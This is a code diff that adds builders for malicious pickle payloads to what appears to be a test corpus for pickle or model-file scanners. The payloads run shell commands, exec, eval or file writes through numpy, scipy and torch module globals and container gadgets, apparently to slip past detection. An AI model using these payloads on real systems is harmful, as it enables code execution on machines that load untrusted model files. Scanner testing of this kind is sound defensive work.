@@ -98,7 +98,7 @@ for loader, p in SAMPLES:
     try: load(loader, p)
     except BaseException: pass
 """
-LIBRARIES = ("torch", "sklearn", "joblib", "numpy", "xgboost")
+LIBRARIES = ("torch", "sklearn", "joblib", "numpy", "xgboost", "scipy")
 
 Builder = Callable[[str, str], bytes]  # (shell command, python code) -> pickle bytes
 
@@ -176,6 +176,27 @@ CLASS1: dict[str, Builder] = {
     "uuid_dunder_builtins_get_exec": lambda c, p: pb.pickle4(
         _call(pb.call_stack_global("uuid", "__builtins__.get", _s("exec")), _s(p))
     ),
+    "numpy_methods_os_system": lambda c, p: pb.pickle4(
+        pb.call_stack_global("numpy._core._methods", "os.system", _s(c))
+    ),
+    "numpy_format_pickle_loads": lambda c, p: pb.pickle4(
+        pb.call_stack_global("numpy.lib._format_impl", "pickle.loads", pb.binbytes(_inner(c)))
+    ),
+    "numpy_numeric_builtins_exec": lambda c, p: pb.pickle4(
+        pb.call_stack_global("numpy._core.numeric", "builtins.exec", _s(p))
+    ),
+    "numpy_ma_builtins_eval": lambda c, p: pb.pickle4(
+        pb.call_stack_global("numpy.ma.core", "builtins.eval", _s(p))
+    ),
+    "pathlib_io_open_writes": lambda c, p: pb.pickle4(
+        pb.call_stack_global("pathlib", "io.open", _s(c.split(" ", 1)[1].strip("'")), _s("w"))
+    ),
+    "scipy_testutils_subprocess_getoutput": lambda c, p: pb.pickle4(
+        pb.call_stack_global("scipy._lib._testutils", "subprocess.getoutput", _s(c))
+    ),
+    "torch_cuda_os_system": lambda c, p: pb.pickle4(
+        pb.call_stack_global("torch.cuda", "os.system", _s(c))
+    ),
     "torch_utils_sys_modules_get": lambda c, p: pb.pickle4(
         pb.call_stack_global("torch._utils", "sys.modules.get", _s("os"))
         + pb.pop()
@@ -233,6 +254,14 @@ CLASS2: dict[str, Builder] = {
     "counter_iter_obj_gadget": lambda c, p: _via(("collections", "Counter"), _gadget(c, "obj")),
     "deque_iter": lambda c, p: _via(("collections", "deque"), _gadget(c)),
     "set_iter": lambda c, p: _via(("builtins", "set"), _gadget(c)),
+    "list_iter": lambda c, p: _via(("builtins", "list"), _gadget(c)),
+    "tuple_iter": lambda c, p: _via(("builtins", "tuple"), _gadget(c)),
+    "frozenset_iter": lambda c, p: _via(("builtins", "frozenset"), _gadget(c)),
+    "bytes_iter": lambda c, p: _via(("builtins", "bytes"), _gadget(c)),
+    "defaultdict_init_keys": lambda c, p: _via(
+        ("collections", "defaultdict"), _sg("builtins", "list"), _gadget(c)
+    ),
+    "enum_lookup_hash": lambda c, p: _via(("enum", "Enum"), _gadget(c)),
     "str_dunder": lambda c, p: _via(("builtins", "str"), _gadget(c)),
     "int_dunder": lambda c, p: _via(("builtins", "int"), _gadget(c)),
     "uuid_replace": lambda c, p: _via(("uuid", "UUID"), _gadget(c)),
